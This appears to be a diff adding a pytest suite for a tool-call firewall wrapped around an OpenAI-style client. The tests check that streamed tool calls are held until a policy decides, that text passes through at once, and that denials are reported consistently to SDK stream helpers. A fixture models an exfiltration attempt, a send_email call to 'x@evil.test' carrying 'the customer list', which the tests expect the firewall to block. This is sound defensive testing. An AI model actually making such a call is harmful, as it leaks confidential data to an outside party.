@@ -1,0 +1,228 @@
+"""Streams through the drop-in client: tool calls held until decided, text passed at once.
+
+The events the caller gets are read by the SDK's own stream helpers, so a malformed event,
+an index gap or an inconsistent finish would fail here as it would for a user.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import threading
+
+import pytest
+
+from adapters.openai import AsyncOpenAI, OpenAI, run_tool_calls
+from firewall import Firewall, load_policy
+from firewall.redact.engine import analyzer_for
+from tests.conftest import POLICIES
+from tests.openai_api import (
+    Reply,
+    Server,
+    chunks,
+    fc_item,
+    function_call,
+    response_events,
+    text_item,
+)
+
+EXTERNAL = {"to": "x@evil.test", "body": "the customer list"}
+CALLS = [
+    function_call("c1", "send_email", EXTERNAL),
+    function_call("c2", "search_docs", {"query": "open orders"}),
+]
+
+
+@pytest.fixture(scope="module", autouse=True)
+def engine() -> None:
+    analyzer_for(True)
+
+
+@pytest.fixture(scope="module")
+def server():
+    with Server() as running:
+        yield running
+
+
+@pytest.fixture
+def api(server):
+    server.state.replies.clear()
+    server.state.received.clear()
+    return server
+
+
+@pytest.fixture
+def fw() -> Firewall:
+    return Firewall(load_policy(POLICIES / "default.yaml"))
+
+
+def client_for(api, fw: Firewall) -> OpenAI:
+    return OpenAI(
+        firewall=fw,
+        api_key="t",
+        base_url=api.url,
+        context={"env": "production"},
+        session="s1",
+        max_retries=0,
+    )
+
+
+ASK = {"model": "gpt-test", "messages": [{"role": "user", "content": "Check the orders."}]}
+
+
+# -- chat completions ------------------------------------------------------------------
+
+
+def test_chat_stream_drops_the_denied_call_and_keeps_the_rest(api, fw) -> None:
+    api.state.replies.append(Reply(events=chunks("Let me look that up.", CALLS)))
+    stream = client_for(api, fw).chat.completions.create(**ASK, stream=True)
+    got = list(stream)
+    text = "".join(c.choices[0].delta.content or "" for c in got if c.choices)
+    assert text == "Let me look that up."
+    calls = [t for c in got if c.choices for t in c.choices[0].delta.tool_calls or ()]
+    assert [(t.index, t.id, t.function.name) for t in calls] == [(0, "c2", "search_docs")]
+    assert json.loads(calls[0].function.arguments) == {"query": "open orders"}
+    finishes = [c.choices[0].finish_reason for c in got if c.choices and c.choices[0].finish_reason]
+    assert finishes == ["tool_calls"]
+    assert got[-1].choices == [] and got[-1].usage.total_tokens == 3  # usage-only chunk passed
+    note = next(
+        c.choices[0].delta.firewall for c in got if c.choices and c.choices[0].finish_reason
+    )
+    assert note["denied"][0]["id"] == "c1"
+    assert "send_email" not in json.dumps(
+        [c.model_dump() for c in got if not c.choices or c.choices[0].finish_reason is None]
+    )
+
+
+def test_the_sdk_stream_helper_accumulates_only_allowed_calls(api, fw) -> None:
+    client = client_for(api, fw)
+    api.state.replies += [
+        Reply(events=chunks("One moment.", CALLS)),
+        Reply(events=chunks("All done.")),
+    ]
+    with client.chat.completions.stream(**ASK) as stream:
+        kinds = [event.type for event in stream]
+        final = stream.get_final_completion()
+    assert "tool_calls.function.arguments.done" in kinds
+    message = final.choices[0].message
+    assert [c.id for c in message.tool_calls] == ["c2"]
+    assert message.content == "One moment."
+    assert message.firewall["denied"][0]["id"] == "c1"
+
+    messages = [
+        *ASK["messages"],
+        message,
+        *run_tool_calls(final, {"search_docs": lambda query: "2 open"}),
+    ]
+    with client.chat.completions.stream(model="gpt-test", messages=messages) as stream:
+        assert stream.get_final_completion().choices[0].message.content == "All done."
+    sent = api.state.received[-1][1]
+    assert {c["id"] for c in sent["messages"][1]["tool_calls"]} == {"c1", "c2"}
+    reasons = {m["tool_call_id"]: m["content"] for m in sent["messages"] if m["role"] == "tool"}
+    assert "denied by the firewall" in reasons["c1"]
+
+
+def test_chat_stream_with_every_call_denied_finishes_with_stop(api, fw) -> None:
+    api.state.replies.append(Reply(events=chunks("", [CALLS[0]])))
+    with client_for(api, fw).chat.completions.stream(**ASK) as stream:
+        final = stream.get_final_completion()
+    assert final.choices[0].finish_reason == "stop"
+    assert not final.choices[0].message.tool_calls
+
+
+def test_text_deltas_are_not_held_back(api, fw) -> None:
+    """The server sends the tool call only after the caller has seen the text."""
+    seen_text = threading.Event()
+    events = chunks("Hello there, checking.", CALLS)
+    first_call = next(i for i, (_, d) in enumerate(events) if "tool_calls" in json.dumps(d))
+    api.state.replies.append(Reply(events=events, gate=seen_text, gate_at=first_call))
+    client = client_for(api, fw).with_options(timeout=20)
+    got = []
+    for chunk in client.chat.completions.create(**ASK, stream=True):
+        got.append(chunk)
+        text = "".join(c.choices[0].delta.content or "" for c in got if c.choices)
+        if text == "Hello there, checking.":
+            seen_text.set()
+    assert seen_text.is_set()
+    assert any(c.choices and c.choices[0].delta.tool_calls for c in got)
+
+
+# -- responses ---------------------------------------------------------------------------
+
+
+def test_responses_stream_is_consistent_for_the_sdk_helper(api, fw) -> None:
+    items = [
+        text_item("Checking."),
+        fc_item("c1", "send_email", EXTERNAL),
+        fc_item("c2", "search_docs", {"query": "q"}),
+    ]
+    api.state.replies.append(Reply(events=response_events(*items, id="resp_S")))
+    with client_for(api, fw).responses.stream(model="gpt-test", input="go") as stream:
+        events = list(stream)
+        final = stream.get_final_response()
+    assert [i.type for i in final.output] == ["message", "function_call"]
+    assert final.output[1].call_id == "c2"
+    assert final.firewall["denied"][0]["call_id"] == "c1"
+    numbers = [e.sequence_number for e in events]
+    assert numbers == list(range(len(numbers)))
+    indexes = sorted({e.output_index for e in events if hasattr(e, "output_index")})
+    assert indexes == [0, 1]
+    assert all(
+        "send_email" not in json.dumps(e.model_dump())
+        for e in events
+        if e.type != "response.completed"
+    )
+    assert events[-1].type == "response.completed"
+
+
+def test_responses_stream_denial_is_answered_on_the_next_request(api, fw) -> None:
+    client = client_for(api, fw)
+    api.state.replies += [
+        Reply(events=response_events(fc_item("c1", "send_email", EXTERNAL), id="resp_T")),
+        Reply(events=response_events(text_item("ok"), id="resp_U")),
+    ]
+    stream = client.responses.create(model="gpt-test", input="mail it", stream=True)
+    final = next(e for e in stream if e.type == "response.completed").response
+    assert final.output == []
+    stream = client.responses.create(
+        model="gpt-test", input=[], previous_response_id=final.id, stream=True
+    )
+    list(stream)
+    sent = api.state.received[-1][1]["input"]
+    assert sent[0]["call_id"] == "c1" and "denied by the firewall" in sent[0]["output"]
+
+
+def test_an_unreadable_event_is_not_passed_on(api, fw) -> None:
+    api.state.replies.append(Reply(events=[(None, "{not json")]))
+    with pytest.raises(Exception, match="could not read an event"):
+        list(client_for(api, fw).chat.completions.create(**ASK, stream=True))
+
+
+# -- async -------------------------------------------------------------------------------
+
+
+def test_async_streams(api, fw) -> None:
+    async def run() -> None:
+        client = AsyncOpenAI(
+            firewall=fw, api_key="t", base_url=api.url, context={"env": "production"}
+        )
+        api.state.replies.append(Reply(events=chunks("Hi.", CALLS)))
+        async with client.chat.completions.stream(**ASK) as stream:
+            async for _ in stream:
+                pass
+            final = await stream.get_final_completion()
+        assert [c.id for c in final.choices[0].message.tool_calls] == ["c2"]
+
+        items = [
+            fc_item("c1", "send_email", EXTERNAL),
+            fc_item("c2", "search_docs", {"query": "q"}),
+        ]
+        api.state.replies.append(Reply(events=response_events(*items)))
+        async with client.responses.stream(model="gpt-test", input="go") as stream:
+            async for _ in stream:
+                pass
+            response = await stream.get_final_response()
+        assert [i.call_id for i in response.output] == ["c2"]
+        await client.close()
+
+    asyncio.run(run())
